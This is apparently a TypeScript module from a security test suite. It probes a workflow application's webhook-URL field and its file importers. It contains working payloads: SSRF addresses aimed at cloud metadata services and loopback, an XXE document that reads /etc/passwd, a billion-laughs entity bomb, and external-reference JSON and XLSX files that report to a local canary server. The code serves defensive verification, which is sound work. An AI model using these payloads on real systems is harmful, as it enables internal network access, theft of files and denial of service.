import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { strToU8, zipSync } from 'fflate';
import type { Attack } from './attack.ts';
import type { Target } from './target.ts';

/** Ways inside that an address of another system could lead; each spelling is judged in deliver/addresses.test.ts. */
const INSIDE = [
  ...[
    'http://169.254.169.254/latest/meta-data/',
    'http://[fd00:ec2::254]/',
    'http://100.100.100.200/',
    'http://10.0.0.1/'
  ],
  ...[
    'https://192.168.1.1/',
    'http://2852039166/',
    'http://0xa9fea9fe/',
    'http://[::ffff:10.0.0.1]/',
    'http://127.0.0.2/'
  ],
  ...[
    'file:///etc/passwd',
    'gopher://127.0.0.1:6379/_x',
    'ftp://127.0.0.1/',
    'http://a:b@127.0.0.1/',
    'javascript:alert(1)'
  ],
  ...[
    'http://127.0.0.1.evil.example/',
    'http://127.0.0.1@evil.example/',
    '//127.0.0.1/',
    'http://127.0.0.1/#@evil.example'
  ]
];

async function* inside(target: Target): AsyncGenerator<string> {
  const path = `/operator/deliveries/${target.ground.accounts.other}?/save`;
  for (const url of INSIDE) {
    const fields = { url, kinds: 'dispatch', state: 'paused', reason: '接通部门系统', revision: '0' };
    const { status } = await target.post(path, 'admin', fields);
    if (status !== 400) yield `messages would be sent to ${url}: ${status}`;
  }
}

export const addressesInside: Attack = {
  name: 'addresses to send to that lead inside or are no web addresses',
  requirement: 'v5.0.0-1.3.6',
  findings: inside,
  weak: [
    {
      what: 'does not look where an address leads',
      weakness: () => ({
        ask: (passing) => {
          const fields = new URLSearchParams(passing.body.toString());
          fields.set('url', 'http://127.0.0.1:9/in');
          return { ...passing, body: Buffer.from(fields.toString()) };
        }
      }),
      finds: /messages would be sent to http:\/\/169/
    }
  ]
};

/** A server that waits for being asked. */
async function canary(): Promise<{ url: string; asked(): string[]; stop(): Promise<void> }> {
  const paths: string[] = [];
  const server = createServer(({ url }, response) => {
    paths.push(url ?? '');
    response.end('<!ENTITY x "canary">');
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { url, asked: () => paths, stop: async () => void (await new Promise((done) => server.close(done))) };
}

/** Files that name other files and addresses, as XML, JSON and workbooks can. */
function files(url: string): [path: string, name: string, bytes: string | Uint8Array][] {
  const doctype = `<!DOCTYPE definitions [<!ENTITY % d SYSTEM "${url}/dtd"> %d; <!ENTITY a SYSTEM "${url}/entity"> <!ENTITY p SYSTEM "file:///etc/passwd">]>`;
  const bpmn = `<?xml version="1.0"?>${doctype}<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" id="&a;&p;"><import importType="x" location="${url}/import" namespace="x"/><process id="p"/></definitions>`;
  const scxml = `<?xml version="1.0"?>${doctype}<scxml xmlns="http://www.w3.org/2005/07/scxml" version="1.0" initial="a"><script src="${url}/script"/><state id="a"><invoke src="${url}/invoke"/>&p;</state></scxml>`;
  const book = `<?xml version="1.0"?>${doctype}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets>&p;</sheets></workbook>`;
  const laughs = `<!DOCTYPE l [<!ENTITY a "ha">${'bcdefghij'.replace(/./g, (name, at: number) => `<!ENTITY ${name} "${`&${'abcdefghi'[at]};`.repeat(10)}">`)}]><definitions>&j;</definitions>`;
  const json = { $schema: `${url}/schema`, $ref: `${url}/ref`, bundle: { $ref: `${url}/inner` }, items: [] };
  const workbook = zipSync({
    'xl/workbook.xml': strToU8(book),
    'xl/_rels/workbook.xml.rels': strToU8(
      `<Relationships><Relationship Id="a" Target="${url}/rel" TargetMode="External"/></Relationships>`
    ),
    '[Content_Types].xml': strToU8(book)
  });
  const charts = '/designer/processes?/import';
  return [
    [charts, 'a.bpmn', bpmn],
    [charts, 'a.scxml', scxml],
    [charts, 'laughs.bpmn', laughs],
    [charts, 'a.json', JSON.stringify(json)],
    ['/designer/import', 'a.json', JSON.stringify(json)],
    ['/designer/import', 'a.xlsx', workbook]
  ];
}

async function* named(target: Target): AsyncGenerator<string> {
  const { url, asked, stop } = await canary();
  try {
    for (const [path, name, bytes] of files(url)) {
      const form = new FormData();
      form.set('file', new File([bytes as BlobPart], name));
      form.set('id', 'attacked');
      form.set('name', 'x');
      const sent = await target.upload(path, 'admin', form);
      const next = sent.headers.location;
      const read = next === undefined ? sent : await target.ask({ path: next, who: 'admin' });
      if (read.text.includes('root:x:0')) yield `${name} reads files of the machine`;
      if (sent.status >= 500 || read.status >= 500) yield `${name} broke the server: ${sent.status} ${read.status}`;
      if (asked().length > 0) yield `${name} had the server ask for ${asked().join(' ')}`;
    }
  } finally {
    await stop();
  }
}

export const entities: Attack = {
  name: 'files to be imported that name other files and addresses',
  requirement: 'v5.0.0-1.5.1',
  findings: named,
  weak: [
    {
      what: 'fetches what a file names',
      weakness: () => ({
        instead: async ({ body }) => {
          for (const [found] of body.toString().matchAll(/http:\/\/127[^"]+/g)) await fetch(found);
          return null;
        }
      }),
      finds: /had the server ask for/
    }
  ]
};
